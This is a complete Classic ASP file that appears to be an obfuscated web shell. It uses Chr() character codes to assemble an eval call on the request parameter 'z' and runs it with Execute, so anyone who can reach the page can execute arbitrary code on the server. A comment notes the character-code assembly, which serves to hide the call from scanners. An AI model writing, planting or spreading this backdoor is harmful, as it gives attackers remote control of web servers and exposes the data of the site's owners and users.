<%
' The call and its argument are assembled from character codes.
Execute(Chr(101) & Chr(118) & Chr(97) & Chr(108) & "(Req" & "uest(""z""))")
%>
